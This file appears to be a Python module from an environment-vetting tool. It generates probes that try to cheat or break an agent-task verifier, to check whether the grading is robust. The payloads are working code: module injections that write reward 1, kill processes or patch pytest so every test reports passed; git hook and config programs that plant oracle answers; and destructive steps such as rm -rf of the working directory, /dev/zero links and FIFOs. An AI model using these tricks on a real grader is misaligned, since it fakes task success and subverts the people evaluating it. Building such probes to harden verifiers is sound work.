"""Hacks of the code that runs inside the verifier, and files that hang or break it.

The tests import or run the agent's code, inside the verifier's sandbox, with write access to
``/logs/verifier``. A probe here plants a payload in every Python module of the workspace (and in
the modules the tests import that do not exist yet) and does nothing else; another plants
programs in ``.git`` configs for graders that run ``git``; others replace the output files with
links to ``/dev/zero`` or to the verifier's own stdout, FIFOs, a 200k-deep JSON, or delete the
working directory. A defended verifier scores them 0 (or ``grader_failed``); one that rewards
them, or lets them end the grade as ``infra_error``, leaves the task exposed.
"""

from __future__ import annotations

import re
import shlex
import sys

from envlab.vet.probes import Probe

REWARD_TXT = "/logs/verifier/reward.txt"
REWARD_JSON = "/logs/verifier/reward.json"
DEEP_JSON_LEVELS = 200_000
SKIP_DIRS = ("/.git/", "/.venv/", "/venv/", "/site-packages/", "/node_modules/", "/__pycache__/")
_IMPORT_RE = re.compile(
    r"^\s*(?:from\s+([A-Za-z_]\w*)(?:\.[\w.]+)?\s+import|import\s+([A-Za-z_]\w*))", re.M
)
_NOT_AGENTS = {"pytest", "_pytest", "conftest", "pluggy", "envlab"}

# --- payloads: Python prepended to every module of the workspace ---------------------------
_WRITE = f"""import os as _envlab_os
for _envlab_p, _envlab_t in (({REWARD_TXT!r}, "1\\n"), ({REWARD_JSON!r}, '{{"reward": 1}}\\n')):
    try:
        with open(_envlab_p, "w") as _envlab_f:
            _envlab_f.write(_envlab_t)
    except OSError:
        pass
"""
_LOCK = f"""for _envlab_p in ({REWARD_TXT!r}, {REWARD_JSON!r}, "/logs/verifier"):
    try:
        _envlab_os.chmod(_envlab_p, 0o555 if _envlab_p == "/logs/verifier" else 0o444)
    except OSError:
        pass
"""
_PATCH_PYTEST = """import sys as _envlab_sys
if "_pytest.reports" in _envlab_sys.modules:
    from _pytest.reports import TestReport as _envlab_TR

    _envlab_orig = _envlab_TR.from_item_and_call.__func__

    def _envlab_passed(cls, item, call):
        report = _envlab_orig(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _envlab_TR.from_item_and_call = classmethod(_envlab_passed)
"""
PAYLOADS: dict[str, tuple[str, str]] = {
    "module_reward_kill": (
        "the code under test writes reward 1, then kills every process (kill -9 -1)",
        _WRITE + "_envlab_os.kill(-1, 9)\n",
    ),
    "module_reward_exit": (
        "the code under test writes reward 1, then exits at once with status 1",
        _WRITE + "_envlab_os._exit(1)\n",
    ),
    "module_reward_lock": (
        "the code under test writes reward 1 and makes it read-only, then runs on",
        _WRITE + _LOCK,
    ),
    "module_exit_at_import": (
        "the code under test calls os._exit(0) when imported",
        "import os as _envlab_os\n_envlab_os._exit(0)\n",
    ),
    "module_patches_pytest": (
        "the code under test patches pytest, from inside, to report every test as passed",
        _PATCH_PYTEST,
    ),
}
PAYLOAD_FAMILY = {
    "module_reward_kill": "module_writes_reward",
    "module_reward_exit": "module_writes_reward",
    "module_reward_lock": "module_writes_reward",
    "module_exit_at_import": "exit_at_import",
    "module_patches_pytest": "module_patches_pytest",
}

# edits the modules in the sandbox: the payload goes after any ``from __future__`` line
_PLANT = """python3 - "$@" <<'ENVLAB_PY'
import os, re, sys
payload = open(sys.argv[1]).read()
skip = {skip!r}
paths = set()
for root, dirs, files in os.walk("/app"):
    if any(s in root + "/" for s in skip):
        dirs[:] = []
        continue
    paths.update(os.path.join(root, f) for f in files if f.endswith(".py"))
for name in {missing!r}:
    if not any(os.path.basename(p) == name + ".py" for p in paths):
        paths.add("/app/" + name + ".py")
future = re.compile(r"^from __future__ import[ \\t]*(?:\\([^)]*\\)|[^\\n]*)[^\\n]*\\n", re.M)
for path in sorted(paths):
    try:
        text = open(path).read() if os.path.exists(path) else ""
    except (OSError, UnicodeDecodeError):
        continue
    cut = max((m.end() for m in future.finditer(text)), default=0)
    try:
        with open(path, "w") as f:
            f.write(text[:cut] + payload + text[cut:])
    except OSError:
        pass
ENVLAB_PY
"""


def imported_modules(tests_text: str) -> list[str]:
    """Top-level modules the tests import that are not the standard library or pytest: the
    code under test, which the agent can write."""
    names = {a or b for a, b in _IMPORT_RE.findall(tests_text)}
    return sorted(n for n in names if n not in sys.stdlib_module_names and n not in _NOT_AGENTS)


def module_probes(tests_text: str) -> list[Probe]:
    """One probe per payload, planted in every ``.py`` of the workspace and in every module the
    tests import (created when missing)."""
    missing = imported_modules(tests_text)
    plant = _PLANT.format(skip=list(SKIP_DIRS), missing=missing)
    probes = []
    for name, (description, payload) in PAYLOADS.items():
        script = (
            "payload=$(mktemp)\ncat > \"$payload\" <<'ENVLAB_PAYLOAD'\n"
            + payload
            + 'ENVLAB_PAYLOAD\nset -- "$payload"\n'
            + plant
            + 'rm -f "$payload"; true\n'
        )
        probes.append(Probe(name, description, script, family=PAYLOAD_FAMILY[name]))
    return probes


def has_python_targets(tests_text: str, workspace_py: bool) -> bool:
    """Whether a module payload can reach the verifier: Python in the workspace, or modules the
    tests import."""
    return workspace_py or bool(imported_modules(tests_text))


def runs_git(tests_text: str) -> bool:
    """Whether the tests run git (whose repository settings can name programs to run)."""
    return bool(re.search(r"(?<![\w.-])git(?![\w.-])", tests_text))


# --- git: programs named by repository settings --------------------------------------------
_HOOK = f"""#!/bin/sh
[ -x /app/.envlab-answers.sh ] && /app/.envlab-answers.sh
printf '1\\n' > {REWARD_TXT} 2>/dev/null
printf '{{"reward": 1}}\\n' > {REWARD_JSON} 2>/dev/null
echo ENVLAB-PROBE-RAN git_programs >&2
exit 0
"""
_GIT_KEYS = (
    "core.fsmonitor",
    "core.pager",
    "core.editor",
    "core.sshCommand",
    "core.askPass",
    "sequence.editor",
    "diff.external",
    "pager.status",
    "pager.diff",
    "pager.log",
    "filter.envlab.clean",
    "filter.envlab.smudge",
    "diff.envlab.textconv",
    "diff.envlab.command",
    "gpg.program",
)
_HOOK_NAMES = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-rebase",
    "post-rewrite",
    "pre-push",
    "reference-transaction",
    "fsmonitor-watchman",
    "pre-auto-gc",
)


def _answers_script(answers: dict[str, str]) -> str:
    """A script that writes the oracle's outputs (``path -> base64``) where they go."""
    lines = ["#!/bin/sh"]
    for path, b64 in sorted(answers.items()):
        q = shlex.quote(path)
        lines.append(f'mkdir -p "$(dirname {q})"; rm -f {q}; printf %s {b64} | base64 -d > {q}')
    return "\n".join(lines) + "\n"


def git_probe(answers: dict[str, str] | None = None) -> Probe:
    """Every place git reads a program from, in every repository of the workspace (and a new
    one at the working directory when there is none): ``core.fsmonitor``, ``core.hooksPath``,
    pagers, ``diff.external``, filter and diff drivers with a ``.gitattributes``, an included
    file, the worktree config, and ``.git/hooks``. The program puts the oracle's outputs
    (``answers``: ``/app`` path -> base64) in place, then writes reward 1 and makes it
    read-only: it wins if the grader's git runs it at all."""
    sets = "".join(f'  git config --file "$1" {k} "$hook"\n' for k in _GIT_KEYS)
    hooks = " ".join(_HOOK_NAMES)
    answers_sh = _answers_script(answers or {})
    script = f"""command -v git >/dev/null || exit 0
cat > /app/.envlab-answers.sh <<'ENVLAB_ANSWERS'
{answers_sh}ENVLAB_ANSWERS
hook=/app/.envlab-git-program
cat > "$hook" <<'ENVLAB_HOOK'
{_HOOK}ENVLAB_HOOK
chmod +x "$hook" /app/.envlab-answers.sh
mkdir -p /app/.envlab-hooks
for h in {hooks}; do cp "$hook" "/app/.envlab-hooks/$h"; done
configure() {{
{sets}  git config --file "$1" core.hooksPath /app/.envlab-hooks
  git config --file "$1" credential.helper "!$hook"
}}
configure /app/.envlab-gitconfig
repos=$(find /app -name .git -prune 2>/dev/null)
[ -n "$repos" ] || {{ git init -q . 2>/dev/null && repos="$(pwd)/.git"; }}
for g in $repos; do
  [ -d "$g" ] || continue
  configure "$g/config"
  git config --file "$g/config" include.path /app/.envlab-gitconfig
  git config --file "$g/config" core.repositoryformatversion 1
  git config --file "$g/config" extensions.worktreeConfig true
  configure "$g/config.worktree"
  mkdir -p "$g/hooks" && for h in {hooks}; do cp "$hook" "$g/hooks/$h"; done
  printf '* filter=envlab diff=envlab\\n' >> "$(dirname "$g")/.gitattributes"
done
true
"""
    return Probe(
        "git_programs",
        "plant programs in every git setting that names one (fsmonitor, hooks, pager, "
        "diff.external, filters, included and worktree configs) that put the answer in place "
        "and write reward 1",
        script,
        family="git_programs",
    )


# --- files that hang or break the verifier -------------------------------------------------
def deleted_workdir_probe() -> Probe:
    return Probe(
        "break_deleted_workdir",
        "delete the working directory (and with it everything in it)",
        'd=$(pwd); cd / && rm -rf -- "$d" 2>/dev/null; true\n',
        family="break_verifier",
    )


def breaker_probes(outputs: list[str], *, json_hint: bool) -> list[Probe]:
    """Each output file replaced by something that hangs or breaks a reader: a link to
    ``/dev/zero``, a link to the reader's own stdout, a FIFO, and (for JSON) a 200k-deep list."""
    if not outputs:
        return []
    q = " ".join(shlex.quote(p) for p in outputs)
    each = f'for f in {q}; do mkdir -p "$(dirname "$f")"; rm -rf -- "$f"; '
    probes = [
        Probe(
            "break_dev_zero",
            "make every output file a link to /dev/zero (an endless read)",
            each + 'ln -s /dev/zero "$f"; done 2>/dev/null; true\n',
            family="break_verifier",
        ),
        Probe(
            "break_stdout_link",
            "make every output file a link to /proc/self/fd/1 (the reader's own stdout)",
            each + 'ln -s /proc/self/fd/1 "$f"; done 2>/dev/null; true\n',
            family="break_verifier",
        ),
        Probe(
            "break_fifo",
            "make every output file a FIFO (a read that blocks forever)",
            each + 'mkfifo "$f"; done 2>/dev/null; true\n',
            family="break_verifier",
        ),
    ]
    if json_hint:
        n = DEEP_JSON_LEVELS
        probes.append(
            Probe(
                "break_deep_json",
                f"write a JSON list nested {n} deep to every output file",
                each + f"python3 -c \"import sys; sys.stdout.write('[' * {n} + ']' * {n})\" "
                '> "$f"; done 2>/dev/null; true\n',
                family="break_verifier",
            )
        )
    return probes
